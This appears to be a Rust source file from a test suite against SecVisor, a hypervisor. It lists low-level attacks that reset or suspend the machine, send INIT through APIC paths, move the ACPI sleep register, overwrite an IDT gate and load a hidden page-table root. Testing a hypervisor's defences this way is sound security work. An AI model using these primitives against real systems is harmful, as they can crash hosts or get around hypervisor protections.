//! Attacks that end the machine, or the guest: each in a run of its own.

use super::entry::aimed_gate;
use super::hardware::{call, keyboard};
use super::{Attack, Plan};
use crate::cpu::under_secvisor;
use crate::cpu::{inb, outb, outw};
use crate::devices::{self, LAPIC, LPC_BRIDGE, PCI_DATA, pci_write};
use crate::memory::{self, PAGE, copy, poke32};
use crate::trap::{KERNEL_CS, symbol};

/// The Q35's PM1a control port, and "sleep now, type S3".
const PM1_CONTROL: u16 = 0x604;
const SLEEP_S3: u16 = 1 << 13 | 1 << 10;

/// An I/O APIC entry, or a message's data: delivery mode INIT.
pub const AS_INIT: u32 = 0x500;
/// Where a store is a message to all local APICs, beside their registers.
const MESSAGES: u64 = 0xFEEF_F000;

extern "C" fn reset_92(_: u64) {
    outb(0x92, inb(0x92) | 1);
}

extern "C" fn reset_keyboard(_: u64) {
    keyboard(0x64, 0xFE);
}

extern "C" fn sleep(_: u64) {
    outw(PM1_CONTROL, SLEEP_S3);
}

extern "C" fn init_by_io_apic(_: u64) {
    devices::route_timer(AS_INIT);
    devices::arm_timer();
    for _ in 0..50_000_000 {
        core::hint::spin_loop();
    }
}

/// A message to every local APIC, or to the first by its own page: delivery mode INIT.
extern "C" fn init_by_message(address: u64) {
    poke32(address, AS_INIT);
    for _ in 0..50_000_000 {
        core::hint::spin_loop();
    }
}

/// Moves the sleep register away from where SecVisor knows it, then sleeps.
extern "C" fn sleep_elsewhere(_: u64) {
    pci_write(LPC_BRIDGE, 0x40, 0x801);
    outw(0x804, SLEEP_S3);
}

/// The rows.
pub const ROWS: &[Attack] = &[
    Attack { name: "reset-port-92", plan: |_| call(0x92, reset_92, 0) },
    Attack { name: "reset-keyboard", plan: |_| call(0x64, reset_keyboard, 0) },
    Attack { name: "sleep-s3", plan: |_| call(PM1_CONTROL.into(), sleep, 0) },
    Attack { name: "init-io-apic", plan: |_| call(devices::IO_APIC, init_by_io_apic, 0) },
    Attack { name: "init-message", plan: |_| call(MESSAGES, init_by_message, MESSAGES) },
    Attack { name: "init-message-page", plan: |_| call(LAPIC, init_by_message, LAPIC) },
    Attack { name: "sleep-moved", plan: |_| call(PCI_DATA.into(), sleep_elsewhere, 0) },
    Attack {
        name: "idt-protection",
        // Its own gate is what SecVisor's answer needs.
        plan: |_| aimed_gate(13, KERNEL_CS, symbol!(u_do_protection)),
    },
    Attack {
        name: "hidden-cr3",
        plan: |options| {
            let target = options.hidden;
            if !under_secvisor() {
                copy(memory::root(), target, PAGE);
            }
            Plan::call(target, symbol!(load_cr3_and_mark), target)
        },
    },
];
